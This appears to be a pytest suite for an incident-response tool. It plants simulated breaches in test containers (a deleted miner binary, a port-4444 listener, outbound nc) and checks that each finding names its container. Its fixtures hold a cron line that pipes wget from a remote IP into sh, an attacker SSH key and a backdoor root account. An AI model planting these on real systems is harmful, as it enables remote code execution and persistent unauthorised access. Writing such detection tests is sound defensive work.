"""A breach inside BookGen's containers, on the test world's real dockerd: every finding names the container,
its compose service and image, once per indicator, with the path as the container sees it."""
from __future__ import annotations

import hashlib
import io
import json
import os
import signal
import socket
import subprocess
import tarfile

import pytest

from tests.test_collectors import kit, only_environ_denials, out_dir, team_key  # noqa: F401 (fixtures)
from tests.world.docker_world import IMAGE_TASKS_PY, wait_for_status
from tests.world.services import wait_until

MINER = "/tmp/.x/sleep"  # busybox under an applet's name: it runs as `sleep`
ODD_PORT = 4444


def _host_pids(match) -> list:
    found = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            exe = os.readlink("/proc/%s/exe" % pid)
            with open("/proc/%s/cmdline" % pid, "rb") as handle:
                argv = handle.read().split(b"\0")
        except OSError:
            continue
        if match(exe, argv):
            found.append(int(pid))
    return found


def _listens(pid: int, port: int) -> bool:
    for table in ("tcp", "tcp6"):
        try:
            with open("/proc/%d/net/%s" % (pid, table)) as handle:
                lines = handle.read().splitlines()[1:]
        except OSError:
            continue
        if any(line.split()[1].endswith(":%04X" % port) and line.split()[3] == "0A" for line in lines):
            return True
    return False


def _capture(stack, out, recipient, *extra) -> dict:
    done = kit("--json", "capture", "--out", str(out), "-r", recipient, "--profile", "volatile", *extra,
               env={"DOCKER_HOST": stack.engine.url}, timeout=300)
    assert done.returncode in (0, 6), done.stderr
    result = json.loads(done.stdout)
    assert done.returncode == 0 and only_environ_denials(result["errors"]), result["errors"]
    return result


def _payload_tar(identity, payload: str) -> tarfile.TarFile:
    plain = subprocess.run(["/usr/bin/age", "-d", "-i", str(identity), payload], capture_output=True, check=True).stdout
    tar_bytes = subprocess.run(["zstd", "-d", "-c"], input=plain, capture_output=True, check=True).stdout
    return tarfile.open(fileobj=io.BytesIO(tar_bytes))


def _member_names(identity, payload: str) -> set:
    return set(_payload_tar(identity, payload).getnames())


def _member(identity, payload: str, name: str) -> bytes:
    return _payload_tar(identity, payload).extractfile(name).read()


def _miner_beside(pid: int) -> int:
    """The host pid of the MINER process in the same mount namespace as pid, once it runs."""
    miners: list = []

    def found() -> bool:
        miners.extend(p for p in _host_pids(lambda exe, argv: exe == MINER)
                      if os.readlink("/proc/%d/ns/mnt" % p) == os.readlink("/proc/%d/ns/mnt" % pid))
        return bool(miners)

    wait_until(found, 20, "the miner")
    return miners[0]


def _the_one_finding(result: dict, pid: int) -> list:
    """Every finding about pid: exactly one, the deleted binary (one indicator, one finding)."""
    mine = [f for f in result["findings"] if pid in f["details"].get("pids", ())]
    assert [f["id"] for f in mine] == ["process-deleted-binary"], mine
    return mine


def _naming_a_container(findings) -> list:
    return [f for f in findings if f["id"].startswith("container-") or f["details"].get("container")]


def test_the_stack_as_started_gives_no_finding_that_names_a_container(running_stack, out_dir, team_key):
    """api listens on 8000, db on 5432, redis on 6379, the worker on nothing: each as its service should."""
    _, recipient = team_key
    result = _capture(running_stack, out_dir, recipient)
    assert _naming_a_container(result["findings"]) == []


@pytest.mark.parametrize("state", ["running", "paused", "dockerd-hung"])
def test_a_deleted_miner_and_a_listener_in_bookgen_api_are_found_once_naming_the_container(
        running_stack, out_dir, team_key, state):
    """Also with the container paused, as `contain` leaves it (its processes, sockets, top and stats are read),
    and with dockerd stopped (SIGSTOP): the containers then come from the data root, and name them the same."""
    identity, recipient = team_key
    paused, hung = state == "paused", state == "dockerd-hung"
    api = running_stack.container("api")
    assert api.exec_run(["sh", "-c", "mkdir -p /tmp/.x && cp /bin/busybox %s && chmod 755 %s" % (MINER, MINER)]
                        ).exit_code == 0
    api.exec_run([MINER, "300"], detach=True)
    api.exec_run(["httpd", "-f", "-p", str(ODD_PORT), "-h", "/tmp"], detach=True)
    miners, listeners = [], []
    try:
        wait_until(lambda: miners.extend(_host_pids(lambda exe, argv: exe == MINER)) or miners, 20, "the miner")
        assert api.exec_run(["rm", "-rf", "/tmp/.x"]).exit_code == 0
        wait_until(lambda: os.readlink("/proc/%d/exe" % miners[0]).endswith(" (deleted)"), 20, "the miner's deletion")
        wait_until(lambda: listeners.extend(_host_pids(lambda exe, argv: str(ODD_PORT).encode() in argv and
                                                       b"httpd" in argv)) or listeners, 20, "the listener")
        wait_until(lambda: _listens(listeners[0], ODD_PORT), 20, "port %d" % ODD_PORT)

        if paused:
            api.pause()
            wait_for_status(api, "paused")
        merged_dir = api.attrs["GraphDriver"]["Data"]["MergedDir"]
        if hung:
            os.kill(running_stack.engine.process.pid, signal.SIGSTOP)
        try:
            result = _capture(running_stack, out_dir, recipient, "--docker-root", str(running_stack.engine.root / "data"))
        finally:
            if hung:
                os.kill(running_stack.engine.process.pid, signal.SIGCONT)
        names = _member_names(identity, result["payload"])
        if hung:
            assert result["degraded"] and "containers/bookgen-api/upperdir.json" in names
        else:
            for member in ("inspect.json", "top.json", "stats.json", "diff.json"):
                assert "containers/bookgen-api/" + member in names, member
            top = json.loads(_member(identity, result["payload"], "containers/bookgen-api/top.json"))
            assert any(MINER in " ".join(row) for row in top["Processes"]), top
        mine = [f for f in result["findings"] if miners[0] in f["details"].get("pids", ())]
        assert [f["id"] for f in mine] == ["process-deleted-binary"], mine  # one indicator, one finding
        deleted = mine[0]
        details = deleted["details"]
        assert (details["container"], details["service"], details["container_id"]) == ("bookgen-api", "api", api.id)
        assert details["image"] == api.attrs["Config"]["Image"]
        assert details["path_in_container"] == MINER and details["exe"] == MINER
        assert details["host_path"] == merged_dir + MINER
        assert "in container bookgen-api (service api" in deleted["title"] and MINER in deleted["title"]
        assert any(e.startswith("volatile/binaries/") for e in deleted["evidence"])

        odd = [f for f in result["findings"] if f["id"] == "container-unexpected-listener"]
        assert len(odd) == 1, odd
        assert odd[0]["severity"] == "high" and odd[0]["details"]["port"] == ODD_PORT
        assert (odd[0]["details"]["container"], odd[0]["details"]["service"]) == ("bookgen-api", "api")
        assert listeners[0] in odd[0]["details"]["pids"] and odd[0]["details"]["expected"] == [8000]
        assert "in container bookgen-api" in odd[0]["title"]
        # the host's own listener rule does not also report it, nor the api's own port 8000
        assert not [f for f in result["findings"] if f["id"] == "unexpected-listener" and
                    f["details"]["port"] in (ODD_PORT, 8000)]
        assert {f["id"] for f in _naming_a_container(result["findings"])} == {"process-deleted-binary",
                                                                               "container-unexpected-listener"}
    finally:
        if paused:
            api.unpause()
        for pid in miners + listeners:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        api.exec_run(["rm", "-rf", "/tmp/.x"])


WORKER_PLANTS = {
    "/etc/cron.d/sys-update": ("cron", "* * * * * root wget -qO- http://203.0.113.9/u | sh\n"),
    "/var/spool/cron/crontabs/root": ("cron", "*/5 * * * * /tmp/.u\n"),
    "/root/.ssh/authorized_keys": ("authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkd attacker@x\n"),
    "/usr/local/lib/python3.12/site-packages/bookgen/tasks.py": ("application code", "import os; os.system('id')\n"),
}
# the image's /etc/passwd with a second root account appended: changed, and different from the image's
IMAGE_PASSWD = "root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/bin/false\n"
BACKDOOR_ACCOUNT = "toor:x:0:0::/root:/bin/sh\n"


@pytest.mark.parametrize("daemon", ["answering", "hung", "container-paused"])
def test_persistence_and_changed_code_in_the_worker_are_copied_and_found_once(running_stack, out_dir, team_key,
                                                                               daemon):
    """Through the API's diff, or with dockerd stopped (SIGSTOP) from the data root's upper directory: each
    changed file compared with its image's copy in the lower layers. Docker's own placeholders (the redis
    config's bind-mount target, /etc/hosts...) and a file rewritten with the image's content are never
    findings; the fallback is said on screen and in the case report."""
    identity, recipient = team_key
    worker = running_stack.container("worker")
    script = " && ".join("mkdir -p %s && printf '%%s' '%s' > %s" % (os.path.dirname(path), text.replace("'", "'\\''"),
                                                                  path) for path, (_, text) in WORKER_PLANTS.items())
    script += " && printf '%s' >> /etc/passwd" % BACKDOOR_ACCOUNT
    assert worker.exec_run(["sh", "-c", script]).exit_code == 0
    api = running_stack.container("api")  # copied up with the image's own content: no tampering, nothing new
    assert api.exec_run(["touch", "/etc/group", "/bin/busybox"]).exit_code == 0
    assert {"/etc/group", "/bin/busybox"} <= {c["Path"] for c in api.diff()}
    engine = running_stack.engine
    case_dir = out_dir / "case"  # the responder's medium (a tmpfs), not the host's disk
    assert kit("case", "open", "--id", "IR-17", "--dir", str(case_dir)).returncode == 0
    try:
        if daemon == "hung":
            os.kill(engine.process.pid, signal.SIGSTOP)
        if daemon == "container-paused":  # as `contain` leaves it
            worker.pause()
            wait_for_status(worker, "paused")
        done = kit("--json", "capture", "--out", str(out_dir), "-r", recipient, "--only", "containers",
                   "--docker-root", str(engine.root / "data"), env={"DOCKER_HOST": engine.url}, timeout=300)
        # on screen, and in the case's report, the fallback is said
        shown = kit("--case-dir", str(case_dir), "capture", "--out", str(out_dir / "screen"), "-r", recipient,
                    "--only", "containers", "--docker-root", str(engine.root / "data"),
                    env={"DOCKER_HOST": engine.url, "COLUMNS": "200"}, timeout=300)
    finally:
        if daemon == "hung":
            os.kill(engine.process.pid, signal.SIGCONT)
        if daemon == "container-paused":
            worker.unpause()
        tasks = "/usr/local/lib/python3.12/site-packages/bookgen/tasks.py"
        worker.exec_run(["sh", "-c", "rm -rf %s && printf '%s' > /etc/passwd && printf '%s' > %s" % (
            " ".join(p for p in WORKER_PLANTS if p != tasks), IMAGE_PASSWD, IMAGE_TASKS_PY.decode(), tasks)])
    assert shown.returncode in (0, 6), shown.stderr
    report = kit("--case-dir", str(case_dir), "case", "report")
    assert report.returncode == 0, report.stderr
    report_text = "".join(p.read_text() for p in (case_dir / "reports").glob("*.md"))
    if daemon == "hung":
        assert "degraded docker: containers read from the data root" in shown.stdout
        assert "**degraded:** docker: containers read from the data root" in report_text
    else:
        assert "degraded" not in shown.stdout and "degraded" not in report_text
    assert done.returncode in (0, 6), done.stderr
    result = json.loads(done.stdout)
    tar = _payload_tar(identity, result["payload"])
    index = json.loads(tar.extractfile("containers/index.json").read())
    assert index.get("fallback", False) is (daemon == "hung")
    assert bool(result["degraded"]) is (daemon == "hung") and all(
        line.startswith("docker: containers read from the data root") for line in result["degraded"])
    named = _naming_a_container(result["findings"])
    assert sorted(f["id"] for f in named) == ["container-code-changed", "container-persistence"], named
    for finding in named:
        details = finding["details"]
        assert (details["container"], details["service"]) == ("bookgen-worker", "worker")
        assert "in container bookgen-worker (service worker" in finding["title"]
        for row in details["changes"]:
            planted = dict(WORKER_PLANTS, **{"/etc/passwd": ("accounts", IMAGE_PASSWD + BACKDOOR_ACCOUNT)})
            assert planted[row["path"]][0] == row["kind"]
            assert row["copy"] in finding["evidence"]
            copied = tar.extractfile(row["copy"]).read()
            if daemon != "hung":  # through the API: a tar of the file, as `docker cp` gives it
                copied = tarfile.open(fileobj=io.BytesIO(copied)).extractfile(os.path.basename(row["path"])).read()
            assert copied.decode() == planted[row["path"]][1]
            assert row["sha256"] == hashlib.sha256(planted[row["path"]][1].encode()).hexdigest()
            assert row["host_path"] == worker.attrs["GraphDriver"]["Data"]["UpperDir"] + row["path"]
            in_image = {"/etc/passwd": IMAGE_PASSWD.encode(),
                        "/usr/local/lib/python3.12/site-packages/bookgen/tasks.py": IMAGE_TASKS_PY}
            if row["path"] in in_image:  # changed: compared with the image's copy in its lower layer, on the host
                assert row["differs_from_image"] is True and row["change"] in ("changed", "changed or added")
                assert row["image_sha256"] == hashlib.sha256(in_image[row["path"]]).hexdigest()
            else:  # added: the image has no such file
                assert row["image_sha256"] is None and row["differs_from_image"] is None
    persistence = next(f for f in named if f["id"] == "container-persistence")
    assert sorted(persistence["details"]["paths"]) == sorted(["/etc/passwd"] + [
        p for p, (k, _) in WORKER_PLANTS.items() if k != "application code"])
    code = next(f for f in named if f["id"] == "container-code-changed")
    assert code["details"]["paths"] == ["/usr/local/lib/python3.12/site-packages/bookgen/tasks.py"]


def test_a_containerd_container_is_judged_the_same_way(running_stack, containerd_engine, out_dir, team_key):
    """A container Docker does not know (containerd's own, as nerdctl or k8s make them) beside BookGen's: its
    deleted miner and odd listener are found once each, naming it, its namespace's runtime and service."""
    from tests.world.containerd_world import IMAGE

    identity, recipient = team_key
    name = "bk-api"
    containerd_engine.ctr("run", "-d", "--label", "com.docker.compose.service=api", IMAGE, name,
                          "httpd", "-f", "-p", str(ODD_PORT + 1), "-h", "/tmp")
    try:
        pid = containerd_engine.task_pid(name)
        containerd_engine.ctr("tasks", "exec", "--exec-id", "plant", name, "sh", "-c",
                              "mkdir -p /tmp/.x && cp /bin/busybox %s" % MINER)
        containerd_engine.ctr("tasks", "exec", "-d", "--exec-id", "miner", name, MINER, "300")
        miner = _miner_beside(pid)
        containerd_engine.ctr("tasks", "exec", "--exec-id", "clean", name, "rm", "-rf", "/tmp/.x")
        wait_until(lambda: os.readlink("/proc/%d/exe" % miner).endswith(" (deleted)"), 20, "the deletion")
        wait_until(lambda: _listens(pid, ODD_PORT + 1), 20, "port %d" % (ODD_PORT + 1))
        done = kit("--json", "capture", "--out", str(out_dir), "-r", recipient, "--profile", "volatile",
                   env={"DOCKER_HOST": running_stack.engine.url, "CONTAINERD_ADDRESS": str(containerd_engine.socket)},
                   timeout=300)
        assert done.returncode in (0, 6), done.stderr
        result = json.loads(done.stdout)
        mine = _the_one_finding(result, miner)
        details = mine[0]["details"]
        assert (details["container"], details["runtime"], details["service"], details["image"]) == (
            name, "containerd", "api", IMAGE)
        assert details["path_in_container"] == MINER and details["host_path"] == "/proc/%d/root%s" % (pid, MINER)
        assert "in containerd container bk-api (service api" in mine[0]["title"]
        odd = [f for f in result["findings"] if f["id"] == "container-unexpected-listener" and
               f["details"]["container"] == name]
        assert len(odd) == 1 and odd[0]["details"]["port"] == ODD_PORT + 1 and odd[0]["details"]["runtime"] == \
            "containerd"
        names = _member_names(identity, result["payload"])
        assert {"containers/containerd/namespaces.txt", "containers/containerd/bk/tasks.txt",
                "containers/containerd/bk/bk-api/info.json"} <= names
        info = json.loads(_member(identity, result["payload"], "containers/containerd/bk/bk-api/info.json"))
        assert info["ID"] == name and info["Labels"]["com.docker.compose.service"] == "api"
        # Docker's own containers are not listed twice through containerd
        assert not [f for f in result["findings"] if f["details"].get("runtime") == "containerd" and
                    f["details"].get("container") != name]
    finally:
        containerd_engine.remove([name])


def test_a_podman_container_is_judged_the_same_way(running_stack, podman_store, out_dir, team_key):
    """Podman's containers beside BookGen's Docker ones: a deleted miner and an odd listener in one found once
    each naming it; cron persistence in another copied, compared with the image and found once."""
    from tests.world.podman_world import IMAGE

    identity, recipient = team_key
    api_id = podman_store.run("pm-api", "httpd", "-f", "-p", str(ODD_PORT + 2), "-h", "/tmp",
                              labels={"com.docker.compose.service": "api"})
    worker_id = podman_store.run("pm-worker", "sh", "-c", "while true; do sleep 1; done",
                                 labels={"com.docker.compose.service": "worker"})
    try:
        pid = int(podman_store.podman("inspect", "-f", "{{.State.Pid}}", "pm-api").stdout)
        podman_store.podman("exec", "pm-api", "sh", "-c", "mkdir -p /tmp/.x && cp /bin/busybox %s" % MINER)
        podman_store.podman("exec", "-d", "pm-api", MINER, "300")
        podman_store.podman("exec", "pm-worker", "sh", "-c", "mkdir -p /etc/cron.d && printf '%s' > /etc/cron.d/x" %
                            WORKER_PLANTS["/etc/cron.d/sys-update"][1].strip())
        miner = _miner_beside(pid)
        podman_store.podman("exec", "pm-api", "rm", "-rf", "/tmp/.x")
        wait_until(lambda: os.readlink("/proc/%d/exe" % miner).endswith(" (deleted)"), 20, "the deletion")
        wait_until(lambda: _listens(pid, ODD_PORT + 2), 20, "port %d" % (ODD_PORT + 2))
        done = kit("--json", "capture", "--out", str(out_dir), "-r", recipient, "--only", "processes", "--only",
                   "network", "--only", "containers", env={"DOCKER_HOST": running_stack.engine.url,
                                                           "CONTAINERS_STORAGE_CONF": str(podman_store.storage_conf)},
                   timeout=300)
        assert done.returncode in (0, 6), done.stderr
        result = json.loads(done.stdout)
        mine = _the_one_finding(result, miner)
        details = mine[0]["details"]
        assert (details["container"], details["container_id"], details["runtime"], details["service"],
                details["image"]) == ("pm-api", api_id, "podman", "api", IMAGE)
        merged = json.loads(podman_store.podman("inspect", "pm-api").stdout)[0]["GraphDriver"]["Data"]["MergedDir"]
        assert details["path_in_container"] == MINER and details["host_path"] == merged + MINER
        assert "in podman container pm-api (service api" in mine[0]["title"]
        odd = [f for f in result["findings"] if f["id"] == "container-unexpected-listener" and
               f["details"]["container"] == "pm-api"]
        assert len(odd) == 1 and odd[0]["details"]["port"] == ODD_PORT + 2
        persistence = [f for f in result["findings"] if f["id"] == "container-persistence"]
        assert len(persistence) == 1 and persistence[0]["details"]["container"] == "pm-worker", persistence
        assert persistence[0]["details"]["container_id"] == worker_id
        row = persistence[0]["details"]["changes"][0]
        assert (row["path"], row["kind"], row["image_sha256"]) == ("/etc/cron.d/x", "cron", None)
        names = _member_names(identity, result["payload"])
        assert {"containers/podman/ps.json", "containers/podman/pm-api/inspect.json", row["copy"]} <= names
        assert _member(identity, result["payload"], row["copy"]).decode() == \
            WORKER_PLANTS["/etc/cron.d/sys-update"][1].strip()
        # nothing else names a podman container: its own files (/etc/hosts, /run/.containerenv...) are not judged
        assert {(f["id"], f["details"]["container"]) for f in result["findings"] if f["details"].get("runtime") ==
                "podman"} == {("process-deleted-binary", "pm-api"), ("container-unexpected-listener", "pm-api"),
                              ("container-persistence", "pm-worker")}
    finally:
        podman_store.podman("rm", "-f", "-t", "0", "pm-api", "pm-worker")


def test_the_api_talking_to_anything_but_db_and_redis_is_found_naming_it(running_stack, out_dir, team_key):
    """A real connection from bookgen-api to its network's gateway (the host: neither db nor redis): one
    high container-outbound finding; the connection's other end, and the api's own port, are not judged."""
    _, recipient = team_key
    api = running_stack.container("api")
    gateway = next(iter(api.attrs["NetworkSettings"]["Networks"].values()))["Gateway"]
    server = socket.socket()
    server.bind((gateway, 0))
    server.listen()
    server.settimeout(20)
    port = server.getsockname()[1]
    accepted = None
    try:
        api.exec_run(["sh", "-c", "sleep 300 | nc %s %d" % (gateway, port)], detach=True)
        accepted, _ = server.accept()
        api_pid = api.attrs["State"]["Pid"]
        wait_until(lambda: any(line.split()[2].endswith(":%04X" % port) and line.split()[3] == "01"
                               for line in open("/proc/%d/net/tcp" % api_pid).read().splitlines()[1:]), 20,
                   "the api's connection")
        result = _capture(running_stack, out_dir, recipient)
        outbound = [f for f in result["findings"] if f["id"] == "container-outbound"]
        assert len(outbound) == 1, outbound
        details = outbound[0]["details"]
        assert (details["container"], details["service"], details["remote"], details["remote_port"]) == (
            "bookgen-api", "api", gateway, port)
        assert outbound[0]["severity"] == "high" and "in container bookgen-api" in outbound[0]["title"]
    finally:
        if accepted is not None:
            accepted.close()
        server.close()
        api_mnt = os.readlink("/proc/%d/ns/mnt" % api.attrs["State"]["Pid"])
        for pid in _host_pids(lambda exe, argv: argv[:1] in ([b"nc"], [b"sleep"])):
            try:
                if os.readlink("/proc/%d/ns/mnt" % pid) == api_mnt:  # the plant's own nc and sleep
                    os.kill(pid, signal.SIGKILL)
            except (FileNotFoundError, ProcessLookupError):
                pass
